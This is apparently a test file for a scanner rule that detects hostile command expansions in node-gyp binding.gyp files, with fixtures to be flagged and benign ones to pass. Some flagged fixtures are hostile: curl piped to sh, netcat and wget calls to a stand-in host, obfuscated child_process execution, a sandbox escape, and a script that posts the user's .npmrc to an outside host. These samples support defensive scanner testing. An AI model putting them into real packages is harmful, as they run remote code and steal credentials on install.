import { nativeBuild } from "../../../src/scanner/rules/ins-05-native-build.ts";
import type { ViewOptions } from "../../support/package-view.ts";
import { describeRule } from "../../support/rule-tables.ts";

const source = { "src/addon.cc": "int x;" };

function gyp(text: string, files: Readonly<Record<string, string>> = source): ViewOptions {
  return { files: { "binding.gyp": text, ...files }, manifest: { dependencies: { nan: "^2" } } };
}

function target(part: string): string {
  return `{ "targets": [ { "target_name": "addon", "sources": ["src/addon.cc"], ${part} } ] }`;
}

describeRule(nativeBuild, {
  flags: {
    "a script of the package that tells somebody": gyp(
      target(`"libraries": ["<!(node gen.js && echo)"]`),
      { ...source, "gen.js": `fetch("https://files.example.test/" + require("os").hostname());` },
    ),
    "a foreign command": gyp(
      target(`"libraries": ["<!(curl -s https://files.example.test/a | sh)"]`),
    ),
    "a list of words": gyp(target(`"libraries": ["<!@(nc files.example.test 4444)"]`)),
    "the late form": gyp(target(`"libraries": ["^!(ssh files.example.test)"]`)),
    "a payload in an evaluation": gyp(
      target(`"include_dirs": ["<!(node -e \\"require('child_process').exec('id')\\")"]`),
    ),
    "a payload in two pieces": gyp(
      target(`"include_dirs": ["<!(node -p \\"require('child_'+'process').exec('id')\\")"]`),
    ),
    "a command in a variable": gyp(
      `{ "variables": { "probe": "wget -qO- https://files.example.test/a" }, "targets": [ { "sources": ["src/addon.cc"], "libraries": ["<!(<(probe))"] } ] }`,
    ),
    "a command in an included file": gyp(target(`"includes": ["common.gypi"]`), {
      ...source,
      "common.gypi": `{ "variables": { "x": "<!(telnet files.example.test)" } }`,
    }),
    "a script beside an included file, by its path from where the build is": gyp(
      target(`"includes": ["gyp/common.gypi"]`),
      {
        ...source,
        "gyp/common.gypi": `{ "variables": { "dir%": "<!(node gyp/probe.js --include)" } }`,
        "gyp/probe.js": `
          const rc = require("fs").readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8");
          require("https").request({ host: "headers.example.test", method: "POST" }).end(rc);`,
      },
    ),
    "a loaded package that nobody declared": gyp(
      target(`"include_dirs": ["<!(node -e \\"try{console.log(require('other').dir)}catch{}\\")"]`),
    ),
    "a default that is a command": gyp(target(`"includes": ["other/other.gypi"]`), {
      ...source,
      "other/other.gypi": `{ "variables": { "other_root%": "telnet files.example.test" }, "x": ["<!(<(other_root))"] }`,
    }),
    "a fetching action": gyp(
      target(`"actions": [ { "action": ["curl", "-o", "a", "https://files.example.test/a"] } ]`),
    ),
    "a condition that climbs out": gyp(
      target(`"conditions": [ ["().__class__.__bases__[0].__subclasses__()", {}] ]`),
    ),
    "an expression instead of a literal": gyp(`{ "targets": [ { "target_name": "a" + str(1) } ] }`),
    "a compiler of its own": gyp(
      `{ "make_global_settings": [ ["CC_wrapper", "./tools/wrap"] ], ${target("").slice(1)}`,
    ),
    "nothing to compile": {
      ...gyp(`{ "targets": [ { "target_name": "a", "type": "none" } ] }`, {}),
      points: 60,
    },
    "the same description under an explicit hook": {
      files: {
        "binding.gyp": target(`"libraries": ["<!(curl -s https://files.example.test/a | sh)"]`),
        ...source,
      },
      manifest: { scripts: { install: "node-gyp rebuild" } },
    },
  },
  passes: {
    "where another package is, with what stands in for it": gyp(
      `{ "variables": { "other_root": "./other" }, "includes": ["./other/other.gypi"], ${target("").slice(1)}`,
      {
        ...source,
        "other/probe.js": "require('fs').writeFileSync('probes.h', '');",
        "other/other.gypi": `{ "variables": { "other_root%": "<!(node -e \\"try{console.log(require('path').dirname(require.resolve('other/package.json')))}catch{console.log('other')}\\")" }, "targets": [ { "target_name": "lib", "sources": ["src/addon.cc"], "actions": [ { "outputs": ["<!(node -e \\"console.log(require('path').resolve('<(other_root)','probes.h'))\\")"], "action": ["node", "<(other_root)/probe.js"] } ] } ] }`,
      },
    ),
    "a generator of the package": gyp(target(`"libraries": ["<!(node gen.js)"]`), {
      ...source,
      "gen.js": `require("fs").writeFileSync(__dirname + "/config.h", "#define ARCH " + process.arch);`,
    }),
    "include paths of header packages": gyp(
      target(
        `"include_dirs": ["<!(node -e \\"require('nan')\\")", "<!@(node -p \\"require('node-addon-api').include\\")"]`,
      ),
    ),
    "pkg-config and filters": gyp(
      target(
        `"libraries": ["<!@(pkg-config --libs cairo | sed s/-I//g)", "<!(which pg_config || echo none)"]`,
      ),
    ),
    "an own script": gyp(
      target(
        `"conditions": [ ["OS=='mac' and target_arch in 'x64 arm64'", { "libraries": ["<!(node ./util/lib.js jpeg)"] }] ]`,
      ),
      { ...source, "util/lib.js": "console.log(1)" },
    ),
    "comments, single quotes and trailing commas": gyp(
      `# addon\n{ 'targets': [ { 'target_name': 'a', 'sources': [ 'src/' 'addon.cc', ], }, ], }`,
    ),
    "a description that is not built": {
      files: { "binding.gyp": target(`"x": "<!(curl a)"`) },
      manifest: { gypfile: false },
    },
    "a build step of the platform": gyp(
      target(`"postbuilds": [ { "action": ["install_name_tool", "-change", "a", "b"] } ]`),
    ),
  },
});
